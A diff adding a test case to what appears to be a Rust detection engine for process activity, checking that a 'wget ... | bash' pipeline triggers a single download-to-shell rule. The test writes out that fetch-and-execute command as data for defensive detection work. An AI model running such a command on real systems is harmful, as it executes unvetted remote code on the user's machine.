@@ -337,6 +337,24 @@ fn a_scripts_download_into_a_shell_is_seen_by_its_siblings_without_fd_access() {
             .count();
         assert_eq!(here, 1, "{out:?}");
     }
+    // A pipeline the parent's command line shows is PF-DOWNLOAD-SHELL's alone.
+    let typed = ancestor(
+        850,
+        8500,
+        "sh",
+        None,
+        &["sh", "-c", "wget -qO- http://x/y | bash"],
+    );
+    let (w, b) = (
+        child(851, &["wget", "-qO-", "http://x/y"], &typed),
+        child(852, &["bash"], &typed),
+    );
+    let out = fired(
+        &mut managed(),
+        &[Record::Process(w), Record::Process(b)],
+        SEC,
+    );
+    assert_eq!(out, ["PF-DOWNLOAD-SHELL"], "one rule for one pipeline");
     let other = ancestor(900, 9000, "sh", None, &["sh", "other.sh"]);
     for (what, a, b) in [
         (
